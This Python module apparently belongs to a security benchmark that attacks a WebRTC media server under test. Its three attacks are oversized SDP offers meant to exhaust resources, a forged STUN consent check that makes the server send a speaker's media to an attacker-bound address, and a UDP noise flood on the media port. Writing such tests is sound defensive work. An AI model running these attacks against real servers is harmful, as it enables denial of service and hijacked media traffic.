"""What can be done to the media server: descriptions that cost, addresses that are somebody else's, noise."""

import asyncio
import random
import socket
import time
from collections import Counter

from aioice import stun

from benchmarks.attacks.by_members import Told, _body, _by_mallory
from benchmarks.attacks.installation import ATTACKERS, LOUD, MALLORY, Target
from benchmarks.attacks.wire import ATTACKER
from benchmarks.attacks.witnesses import TimedClient, negotiated

LARGEST_SDPS = (64_000, 240_000)  # characters
NEGOTIATE = "mutation ($i: NegotiateMediaInput!) { negotiateMedia(input: $i) { __typename ... on Refusal { code } } }"


async def huge_descriptions(target: Target) -> Told:
    """Offers with thousands of formats, and as many lines about one that is none of them."""
    entered = await asyncio.to_thread(target.enter, LOUD, MALLORY)
    client = TimedClient()
    await client.prepare()
    offer = client.description(["sendonly"])
    sdps = (_filled(offer, size) for size in LARGEST_SDPS)
    return await _by_mallory(target, *(_body(NEGOTIATE, i={**entered, "sdpOffer": sdp}) for sdp in sdps))


def _filled(offer: str, size: int) -> str:
    """With nothing that could be agreed on."""
    line, spare = "a=rtpmap:96 opus/48000/2\r\n", size - len(offer)
    offer = offer.replace("SAVPF 111", f"SAVPF{' 1' * (spare // 4)}").replace("a=rtpmap:111 opus/48000/2\r\n", "")
    return offer + line * (spare // 2 // len(line))


async def media_for_somebody_else(target: Target) -> Told:
    """One signed check from an address that then says nothing more: what is sent there, and for how long?"""
    speaker, listener = TimedClient(), TimedClient()
    told: Told = Counter()
    remotes = []
    for client, name, direction in ((speaker, ATTACKERS[1], "sendonly"), (listener, MALLORY, "recvonly")):
        await client.prepare()
        entered = await asyncio.to_thread(target.enter, LOUD, name)
        remotes.append(await negotiated(target, name, entered, client.description([direction])))
        await client.connect(remotes[-1])
    speaking = asyncio.create_task(speaker.speak_for(3600))
    agent, remote = listener.path.agent, remotes[-1]
    check = stun.Message(stun.Method.BINDING, stun.Class.REQUEST)
    check.attributes |= {"USERNAME": f"{remote.ufrag}:{agent.local_username}", "PRIORITY": 1}
    check.attributes |= {"ICE-CONTROLLING": 1, "USE-CANDIDATE": None}
    check.add_message_integrity(remote.password.encode())
    check.add_fingerprint()
    pair = agent._nominated[1]  # noqa: SLF001 - it doesn't tell
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as somebody:
        somebody.bind((ATTACKER, 0))
        somebody.setblocking(False)
        somebody.sendto(bytes(check), pair.remote_addr)
        await agent.close()
        try:
            while True:
                data = await asyncio.get_running_loop().sock_recv(somebody, 2000)
                told["bytes sent there"] += len(data)
                told["datagrams sent there"] += 1
        except asyncio.CancelledError:
            speaking.cancel()
    return told


async def noise(target: Target) -> Told:
    """Datagrams that look like anything, as fast as they can be sent for four fifths of the time."""
    told: Told = Counter()
    chance = random.Random(1)
    firsts = (0, 1, 20, 22, 128, 144, 200)
    datagrams = [bytes([chance.choice(firsts)]) + chance.randbytes(chance.randrange(20, 1200)) for _ in range(500)]
    media = await asyncio.to_thread(_media_address, target)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stranger:
        stranger.bind((ATTACKER, 0))
        try:
            while True:
                begin = time.monotonic()
                for datagram in datagrams:
                    stranger.sendto(datagram, media)
                told["datagrams"] += len(datagrams)
                await asyncio.sleep((time.monotonic() - begin) / 4)
        except asyncio.CancelledError:
            return told


def _media_address(target: Target) -> tuple[str, int]:
    """As every member learns it: from an answer."""

    async def ask() -> tuple[str, int]:
        client = TimedClient()
        await client.prepare()
        entered = await asyncio.to_thread(target.enter, LOUD, MALLORY)
        remote = await negotiated(target, MALLORY, entered, client.description(["sendonly"]))
        _, _, _, _, host, port, *_ = remote.candidates[0].split()
        await client.path.agent.close()
        return host, int(port)

    return asyncio.run(ask())
